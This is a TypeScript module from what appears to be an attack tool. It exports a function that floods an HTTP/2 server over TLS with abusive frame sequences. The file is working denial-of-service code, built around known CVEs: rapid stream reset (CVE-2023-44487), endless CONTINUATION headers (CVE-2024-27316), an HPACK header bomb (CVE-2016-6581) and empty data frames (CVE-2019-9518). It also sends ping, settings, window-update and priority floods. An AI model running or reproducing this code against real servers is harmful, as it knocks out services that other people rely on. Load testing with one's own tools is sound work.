import type { Attack, Attacker } from "./attack.ts";
import { floodConnections } from "./flood_connections.ts";
import { cancelFrame, flags, frame, get, preface } from "./http2_frame.ts";
import { tlsConnection } from "./target.ts";

/** Puts a header of 4 KB in the table, and names it again and again. */
const bomb = Buffer.concat([
  get,
  Buffer.from([0x40, 1, "a".charCodeAt(0), 0x7f, 0x80 + ((3_900 - 127) % 128), (3_900 - 127) >> 7]),
  Buffer.alloc(3_900, "b"),
  Buffer.alloc(10_000, 0xbe),
]);
const ping = Buffer.alloc(8);
const setting = Buffer.from([0, 4, 0, 0, 0xff, 0xff]);

/** So many times, with the numbers of streams that have not been used: a client's are odd. */
function onStreams(count: number, of: (id: number) => Buffer): () => Buffer {
  let next = 1;
  return () =>
    Buffer.concat(
      Array.from({ length: count }, () => {
        next += 2;
        return of(next - 2);
      }),
    );
}

function again(text: Buffer, count: number): () => () => Buffer {
  const all = Buffer.concat(Array(count).fill(text));
  return () => () => all;
}

const request = (id: number, flag: number, body = get) => frame("headers", { flag, id, body });
const whole = flags.endHeaders | flags.endStream;

const says: readonly (() => () => Buffer)[] = [
  /* Requests that are given up as soon as they are made (CVE-2023-44487). */
  () => onStreams(500, (id) => Buffer.concat([request(id, whole), cancelFrame(id)])),
  /* Requests that nobody waits for. */
  () => onStreams(500, (id) => request(id, whole)),
  /* Headers without end (CVE-2024-27316). */
  () => {
    const more = Buffer.concat(Array(100).fill(frame("continuation", { id: 1, body: Buffer.alloc(1_000, 0x82) })));
    let isBegun = false;
    return () => {
      const said = isBegun ? more : Buffer.concat([request(1, flags.endStream), more]);
      isBegun = true;
      return said;
    };
  },
  /* Headers that are small on the way and large when read (CVE-2016-6581). */
  () => onStreams(10, (id) => request(id, whole, bomb)),
  again(frame("ping", { body: ping }), 2_000),
  again(frame("settings", { body: setting }), 2_000),
  again(frame("window", { body: Buffer.from([0, 0, 0, 1]) }), 5_000),
  again(frame("priority", { id: 3, body: Buffer.from([0, 0, 0, 1, 1]) }), 5_000),
  /* Bodies of nothing (CVE-2019-9518). */
  () => {
    const nothing = Buffer.concat(Array(5_000).fill(frame("data", { id: 1 })));
    let isBegun = false;
    return () => {
      const said = isBegun ? nothing : Buffer.concat([request(1, flags.endHeaders), nothing]);
      isBegun = true;
      return said;
    };
  },
  /* What is no frame. */
  again(Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), 100),
];

/** Everything that HTTP/2's frames can be and should not, on two connections each. */
export function floodHttp2({ target, signal }: Attacker, who: Attack["who"]): Promise<void> {
  return floodConnections(signal, {
    count: 2 * says.length,
    open(opened) {
      const socket = tlsConnection(target, who, { ALPNProtocols: ["h2"] });
      socket.once("secureConnect", () => {
        socket.write(preface);
        opened(socket);
      });
      return socket;
    },
    says: (index) => (says[index % says.length] ?? (() => () => preface))(),
  });
}
